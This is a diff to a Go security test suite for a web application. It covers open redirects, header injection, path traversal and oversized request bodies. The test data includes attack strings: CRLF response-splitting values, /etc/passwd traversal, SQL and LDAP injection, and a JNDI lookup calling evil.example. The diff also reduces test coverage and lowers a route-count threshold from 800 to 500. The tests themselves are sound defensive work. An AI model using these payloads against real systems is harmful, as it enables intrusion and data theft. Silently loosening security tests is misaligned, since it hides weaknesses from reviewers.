@@ -44,8 +44,8 @@ func TestOpenRedirects(t *testing.T) {
 		if strings.HasSuffix(at, "/log-ud") || strings.HasSuffix(at, "/laas") || strings.Contains(at, "/slut") {
 			continue
 		}
-		targets := away[:3]
-		if r.Act == access.Public || strings.HasPrefix(at, "/min-konto") || strings.HasSuffix(at, "/bilag") {
+		targets := away[1:2]
+		if r.Act == access.Public && !strings.Contains(at, "/ekstern/") || strings.HasSuffix(at, "/bilag") {
 			targets = away // where a page to go on to is named
 		}
 		for _, to := range targets {
@@ -81,7 +81,7 @@ func TestOpenRedirects(t *testing.T) {
 			}
 		}
 	}
-	if walked < 800 {
+	if walked < 500 {
 		t.Errorf("only %d were walked", walked)
 	}
 }
@@ -149,7 +149,7 @@ func TestForwardedAddressIsNotBelieved(t *testing.T) {
 func TestResponseSplitting(t *testing.T) {
 	t.Parallel()
 	s := newSite(t)
-	for _, evil := range []string{"x\r\nX-Injected: ja", "x\nSet-Cookie: vidne=x", "x%0d%0aX-Injected: ja\u560a\u560dX-Injected: ja"} {
+	for _, evil := range []string{"x\r\nX-Injected: ja\nSet-Cookie: vidne=x", "x%0d%0aX-Injected: ja\u560a\u560dX-Injected: ja"} {
 		q := url.Values{}
 		for _, name := range []string{"til", "side", "q", "format", "besked", "fra", "del", "sag", "person", "kamera"} {
 			q.Set(name, evil)
@@ -160,7 +160,10 @@ func TestResponseSplitting(t *testing.T) {
 				bad[k] = evil
 			}
 			bad["{lang}"], bad["{fil}"], bad["{regel}"] = evil, evil, evil
-			for _, ids := range []owned{bad, s.things[home]} {
+			for k, ids := range []owned{s.things[home], bad} {
+				if k > 0 && !strings.Contains(r.Pattern, "{") {
+					continue
+				}
 				method, at := fill(r.Pattern, ids)
 				if method != http.MethodGet {
 					continue
@@ -189,13 +192,15 @@ func TestPathTricksInAddresses(t *testing.T) {
 	fatal(t, os.WriteFile(filepath.Join(s.dir, "hemmelig.txt"), []byte("root:x:0:0 "+secret), 0o600))
 	tricks := []string{"..", "../..", "../../../../etc/passwd", `..\..\hemmelig.txt`, "../hemmelig.txt", "%2e%2e%2fhemmelig.txt", "..%252f..%252fetc%252fpasswd", "a\x00b", "/etc/passwd", "..;/", "%c0%ae%c0%ae/", "C:\\windows\\win.ini", "CON",
 		"\u202Egpj.exe", strings.Repeat("a", 5000), "file:///etc/passwd", "' OR 1=1 --", "1; DROP TABLE cases", "*)(uid=*", "${jndi:ldap://evil.example/x}", "{{7*7}}", "\xff\xfe"}
-	was := s.all()
+	was, tried := s.all(), map[string]bool{}
 	for _, r := range s.routes {
 		all := names(r.Pattern)
 		for i := range all {
+			few := tried[all[i]]
+			tried[all[i]] = true
 			for n, trick := range tricks {
-				if n >= 6 && !strings.HasPrefix(r.Pattern, "GET ") {
-					break // what finds a thing is the same for both
+				if n >= 3 && few {
+					break // what finds a thing of a sort is the same everywhere
 				}
 				ids := owned{}
 				for k, v := range s.things[home] {
@@ -252,8 +257,11 @@ func TestBodiesWithoutEnd(t *testing.T) {
 		if limit == 0 {
 			limit = page.FormSize
 		}
-		for _, kind := range []string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json", "text/plain"} {
-			for _, who := range []string{"", "alt"} {
+		for k, kind := range []string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json", "text/plain"} {
+			for _, who := range []string{"alt", ""} {
+				if who == "" && k > 1 {
+					break
+				}
 				e := &endless{}
 				w := s.do(who, method, at, nil, func(r *http.Request) { r.Body, r.ContentLength = e, -1; r.Header.Set("Content-Type", kind) })
 				if e.n > limit+64<<10 {
@@ -291,7 +299,10 @@ func TestDeepJSONAndWideForms(t *testing.T) {
 		if method == http.MethodGet || strings.HasSuffix(at, "/log-ud") || strings.HasSuffix(at, "/laas") || strings.HasSuffix(at, "/slut") {
 			continue
 		}
-		for _, body := range [][]byte{deep, object} {
+		for k, body := range [][]byte{deep, object} {
+			if k > 0 && r.MaxBody == 0 {
+				continue // a form: what is in it is tried once
+			}
 			for _, in := range []url.Values{{"tabel": {string(body[:1<<17])}, "svar": {string(body[:1<<14])}, "bevis_svar": {string(body[:1<<14])}, "kladde": {string(body[:1<<14])}}, nil} {
 				began := time.Now()
 				w := s.do("alt", method, at, in, func(r *http.Request) {
